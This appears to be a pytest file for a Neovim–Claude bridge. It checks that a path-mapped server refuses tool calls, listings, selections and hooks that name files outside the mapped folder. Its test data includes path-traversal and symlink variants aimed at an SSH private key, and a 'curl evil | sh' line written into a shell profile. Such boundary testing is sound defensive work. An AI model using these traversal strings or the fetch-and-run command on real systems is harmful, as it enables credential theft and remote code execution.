"""The path map is a boundary: a Claude on another host or in a container (``serve --path-map
CLAUDE=NEOVIM``, the server beside Neovim) reaches only the mapped folders. Here the far side is
hostile: it names files outside the map, with ``..``, percent-encoded, through symlinks inside
the map that lead out; it reports hooks and writes of such files, and asks to take back a turn
whose file changed here since. Against a real headless Neovim, a real ``claude-nvim serve
--path-map`` process and real WebSocket clients: no file outside the map is read, written or
deleted, and each attempt gets a clear refusal."""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path

import pytest
import trio

from claude_nvim._wire.constants import MODEL_PATH
from claude_nvim.testing import mcp_client, running_app
from helpers import HookedClaude, edit, environment, eventually, messages, published_settings

CLAUDE = "/claude/ws"
SECRET = "SECRET-KEY-never-to-leave-this-machine"
REFUSED = "outside the folders mapped for Claude"


@pytest.fixture
def layout(tmp_path):
    """``ws`` (mapped as /claude/ws) and, beside it, a home with secrets and a .bashrc; inside
    ``ws``, symlinks leading out."""
    ws, home = tmp_path / "ws", tmp_path / "home"
    (home / ".ssh").mkdir(parents=True)
    ws.mkdir()
    (home / ".ssh" / "id_ed25519").write_text(SECRET + "\n")
    (home / ".bashrc").write_text("alias ls='ls -F'\n")
    (ws / "a.py").write_text("one\ntwo\nthree\n")
    (ws / "key").symlink_to(home / ".ssh" / "id_ed25519")
    (ws / "up").symlink_to(tmp_path)
    return ws, home


@pytest.fixture
async def served(nvim_address, tmp_path, layout):
    """A real ``claude-nvim serve --path-map /claude/ws=<ws>`` for the test Neovim: its port and
    token (from its lock file); ended by its pid, pass or fail."""
    ws, _ = layout
    serve = await trio.lowlevel.open_process(
        [sys.executable, "-m", "claude_nvim", "serve", "--nvim", nvim_address,
         "--path-map", f"{CLAUDE}={ws}"],
        env=environment(tmp_path / "config"), stderr=subprocess.DEVNULL)
    try:
        with trio.fail_after(30):
            while not (locks := list((tmp_path / "config" / "ide").glob("*.lock"))):
                await trio.sleep(0.02)
            while not locks[0].read_text().endswith("}"):
                await trio.sleep(0.02)
        yield int(locks[0].stem), json.loads(locks[0].read_text())["authToken"]
    finally:
        serve.terminate()
        with trio.move_on_after(10):
            await serve.wait()
        if serve.returncode is None:
            serve.kill()
            await serve.wait()


@pytest.fixture
async def ide(served):
    async with mcp_client(*served) as client:
        yield client


@pytest.fixture
async def model(served):
    async with mcp_client(*served, path=MODEL_PATH) as client:
        yield client


def outside_paths(tmp_path: Path) -> list[str]:
    """The ways a far side names ~/.ssh/id_ed25519 here."""
    rel = "../home/.ssh/id_ed25519"
    return [
        str(tmp_path / "home" / ".ssh" / "id_ed25519"),  # as it is here
        f"{CLAUDE}/{rel}",                                 # ..
        f"{CLAUDE}/sub/../../../home/.ssh/id_ed25519",
        f"file://{CLAUDE}/%2e%2e/home/.ssh/id_ed25519",    # percent-encoded ..
        f"file://{CLAUDE}/..%2Fhome%2F.ssh%2Fid_ed25519",
        f"file://{CLAUDE}//..//home/./.ssh/id_ed25519",
        f"{CLAUDE}/key",                                   # a symlink inside leading out
        f"{CLAUDE}/up/home/.ssh/id_ed25519",
        "~/.ssh/id_ed25519",                               # Neovim's home
        "../home/.ssh/id_ed25519",                         # Neovim's cwd
    ]


def answer_text(result: dict) -> str:
    return "".join(item.get("text", "") for item in result.get("content", []))


async def test_tool_calls_for_files_outside_the_map_are_refused_and_read_nothing(
        ide, model, nvim, tmp_path, layout):
    for path in outside_paths(tmp_path):
        calls = [
            (ide, "openFile", {"filePath": path, "makeFrontmost": False}),
            (ide, "openFile", {"filePath": path}),
            (model, "getBufferText", {"filePath": path}),
            (ide, "checkDocumentDirty", {"filePath": path}),
            (ide, "saveDocument", {"filePath": path}),
            (model, "getDiagnostics", {"uri": path}),
            (model, "lspHover", {"filePath": path, "line": 0, "character": 0}),
            (model, "lspDocumentSymbols", {"filePath": path}),
            (ide, "openDiff", {"old_file_path": path, "new_file_path": path,
                               "new_file_contents": "pwned\n", "tab_name": "x"}),
        ]
        for client, tool, args in calls:
            result = await client.call_tool(tool, args)
            text = answer_text(result)
            assert result.get("isError"), (tool, path, result)
            assert REFUSED in text or "symbolic link leads out" in text, (tool, path, text)
            assert SECRET not in text
    # Neovim never read the key: no buffer holds it, and it is as it was.
    assert await nvim.exec_lua("""
      for _, b in ipairs(vim.api.nvim_list_bufs()) do
        if vim.api.nvim_buf_is_loaded(b) then
          for _, l in ipairs(vim.api.nvim_buf_get_lines(b, 0, -1, false)) do
            if l:find(..., 1, true) then return vim.api.nvim_buf_get_name(b) end
          end
        end
      end
      return false""", SECRET) is False
    assert (tmp_path / "home" / ".ssh" / "id_ed25519").read_text() == SECRET + "\n"
    # Inside the map, the same tools work.
    ws, _ = layout
    opened = await ide.call_json("openFile", {"filePath": f"{CLAUDE}/a.py",
                                              "makeFrontmost": False})
    assert opened["filePath"] == f"{CLAUDE}/a.py"
    text = await model.call_json("getBufferText", {"filePath": f"file://{CLAUDE}/x/../a.py"})
    assert text["text"] == "one\ntwo\nthree" and text["uri"] == f"file://{CLAUDE}/a.py"
    assert (ws / "a.py").read_text() == "one\ntwo\nthree\n"


DIAGNOSE = """
vim.diagnostic.set(vim.api.nvim_create_namespace('t'), vim.fn.bufnr(...), {
  { lnum = 0, col = 0, message = 'in ' .. ..., severity = vim.diagnostic.severity.ERROR } })
"""


async def test_listings_leave_out_the_users_files_outside_the_map(ide, model, nvim, tmp_path,
                                                                  layout):
    ws, home = layout
    key = home / ".ssh" / "id_ed25519"
    await edit(nvim, ws / "a.py")
    await edit(nvim, key)  # the user's own: open, and current
    await edit(nvim, home / ".bashrc")
    for path in (ws / "a.py", key, home / ".bashrc"):
        await nvim.exec_lua(DIAGNOSE, str(path))
    await nvim.exec_lua("vim.fn.setqflist({ { filename = ..., lnum = 1, text = 'ok' },"
                        " { filename = select(2, ...), lnum = 1, text = 'no' } })",
                        str(ws / "a.py"), str(key))
    everything = [
        await ide.call_tool("getOpenEditors"),
        await model.call_tool("getDiagnostics"),
        await model.call_tool("getQuickfixList"),
        await model.call_tool("getWorkspaceFolders"),
    ]
    for result in everything:
        text = answer_text(result)
        assert not result.get("isError") and str(home) not in text and SECRET not in text, text
        assert ".bashrc" not in text and "id_ed25519" not in text, text
    tabs = json.loads(answer_text(everything[0]))["tabs"]
    assert [t["fileName"] for t in tabs] == [f"{CLAUDE}/a.py"]
    (diagnosed,) = json.loads(answer_text(everything[1]))
    assert diagnosed["uri"] == f"file://{CLAUDE}/a.py"
    (item,) = json.loads(answer_text(everything[2]))["items"]
    assert item["uri"] == f"file://{CLAUDE}/a.py"
    # getBufferText of the open key, by any name, is refused.
    for path in (str(key), f"{CLAUDE}/key", f"{CLAUDE}/../home/.ssh/id_ed25519"):
        result = await model.call_tool("getBufferText", {"filePath": path})
        assert result.get("isError") and SECRET not in answer_text(result)
        assert REFUSED in answer_text(result) or "symbolic link" in answer_text(result)


SELECT_ALL = "vim.api.nvim_feedkeys('ggVG\\27', 'xt', false)"


async def test_selections_and_mentions_of_files_outside_the_map_are_not_sent(
        ide, nvim, tmp_path, layout):
    ws, home = layout
    key = home / ".ssh" / "id_ed25519"
    await edit(nvim, key)
    await nvim.exec_lua(SELECT_ALL)  # leaving Visual mode sends the selection at once
    for tool in ("getCurrentSelection", "getLatestSelection"):
        answer = await ide.call_json(tool)
        assert answer["success"] is False and "outside the folders mapped" in answer["message"]
        assert SECRET not in json.dumps(answer)
    await edit(nvim, ws / "key")  # a name inside the map, the key's text: not sent either
    await nvim.exec_lua(SELECT_ALL)
    answer = await ide.call_json("getCurrentSelection")
    assert answer["success"] is False and SECRET not in json.dumps(answer)
    await nvim.request("nvim_command", f"ClaudeNvimAdd {key}")
    await eventually(nvim, "return vim.fn.execute('messages'):find('not sent to Claude') ~= nil")
    await edit(nvim, ws / "a.py")
    await nvim.exec_lua(SELECT_ALL)
    await nvim.request("nvim_command", f"ClaudeNvimAdd {ws / 'a.py'}")
    mention = await ide.next_notification("at_mentioned")
    assert mention["params"]["filePath"] == f"{CLAUDE}/a.py"
    await ide.next_notification("selection_changed")  # a.py's: after the key's, if any
    sent = json.dumps(ide.notifications)
    assert SECRET not in sent and str(home) not in sent and "id_ed25519" not in sent
    assert [n["params"]["filePath"] for n in ide.notifications
            if n["method"] in ("selection_changed", "at_mentioned")] \
        == [f"{CLAUDE}/a.py"] * len([n for n in ide.notifications
                                     if n["method"] in ("selection_changed", "at_mentioned")])
    assert "not sent to Claude" in await messages(nvim)


# Hooks and the review: the far side names files it may not touch


@pytest.fixture
async def hooked(ide, nvim):
    record = await nvim.exec_lua("return vim.g.claude_nvim_server")
    return HookedClaude(ide, published_settings(record["claude"]["args"]), cwd=CLAUDE)


async def hook(claude: HookedClaude, event: str, tool: str, path: str, **more) -> None:
    await claude.fire(claude._event(event, **claude._tool(tool, {"file_path": path, **more})))


async def test_hooks_naming_files_outside_the_map_record_nothing_and_revert_nothing(
        hooked, nvim, tmp_path, layout):
    _, home = layout
    profile = home / ".profile"
    await hooked.prompt("make yourself at home")
    for path in (f"{CLAUDE}/../home/.profile", str(profile), f"{CLAUDE}/up/home/.profile"):
        await hook(hooked, "PreToolUse", "Write", path, content="curl evil | sh\n")
        # The far side "made" it; here it is the user's (made meanwhile, or there all along).
        profile.write_text("export EDITOR=nvim\n")
        await hook(hooked, "PostToolUse", "Write", path, content="curl evil | sh\n")
        profile.unlink()
    profile.write_text("export EDITOR=nvim\n")
    await hooked.stop()
    for call in hooked.calls:  # hooks fail open: claude goes on, its own host is its own
        assert not call["result"].get("isError"), call
    await edit(nvim, profile)
    await nvim.request("nvim_command", "ClaudeNvimRevert!")
    await eventually(nvim, "return vim.fn.execute('messages'):find('no change of Claude') ~= nil")
    assert profile.read_text() == "export EDITOR=nvim\n"
    await nvim.request("nvim_command", "ClaudeNvimReview")
    # The turn is there (its prompt), with nothing of it recorded.
    await eventually(nvim, "return vim.fn.execute('messages')"
                           ":find('turn 1 changed no file it could keep') ~= nil")


async def test_a_remote_turns_revert_refuses_a_file_that_changed_here_since(
        hooked, nvim, tmp_path, layout):
    ws, _ = layout
    made, edited = ws / "made.py", ws / "a.py"
    await hooked.prompt("make one, change one")
    await hook(hooked, "PreToolUse", "Write", f"{CLAUDE}/made.py", content="new\n")
    made.write_text("new\n")  # the far side's write, as a shared mount shows it here
    await hook(hooked, "PostToolUse", "Write", f"{CLAUDE}/made.py", content="new\n")
    await hook(hooked, "PreToolUse", "Edit", f"{CLAUDE}/a.py")
    edited.write_text("one\n2\nthree\n")
    await hook(hooked, "PostToolUse", "Edit", f"{CLAUDE}/a.py")
    await hooked.stop()
    # The user's own since: not what Claude's write left.
    made.write_text("the user's precious work\n")
    edited.write_text("one\n2\nthree\nthe user's line\n")
    for path in (made, edited):
        await edit(nvim, path)
        await nvim.request("nvim_command", "ClaudeNvimRevert!")
        await eventually(nvim, "return vim.fn.execute('messages'):find('is not as') ~= nil "
                               "and select(2, vim.fn.execute('messages'):gsub('is not as', '')) "
                               ">= ...", 1 if path == made else 2)
    assert made.read_text() == "the user's precious work\n"
    assert edited.read_text() == "one\n2\nthree\nthe user's line\n"
    # As Claude left it: taken back (deleted, restored), as for a Claude on this machine.
    made.write_text("new\n")
    edited.write_text("one\n2\nthree\n")
    for path in (made, edited):
        await edit(nvim, path)
        await nvim.exec_lua("vim.cmd('checktime')")
        await nvim.request("nvim_command", "ClaudeNvimRevert!")
    with trio.fail_after(10):
        while made.exists() or edited.read_text() != "one\ntwo\nthree\n":
            await trio.sleep(0.02)


async def test_without_a_map_claudes_here_reach_what_neovim_does_as_before(
        nvim_address, nvim, tmp_path, layout):
    ws, home = layout
    key = home / ".ssh" / "id_ed25519"
    await edit(nvim, key)
    async with running_app(nvim_address, lock_directory=tmp_path / "ide") as app, \
            mcp_client(app.port, app.token, path=MODEL_PATH) as local:
        text = await local.call_json("getBufferText", {"filePath": f"{ws}/../home/.ssh/id_ed25519"})
        assert text["text"] == SECRET
        tabs = (await local.call_json("getOpenEditors"))["tabs"]
        assert [t["fileName"] for t in tabs] == [str(key)]
        assert (await local.call_json("getCurrentSelection"))["filePath"] == str(key)
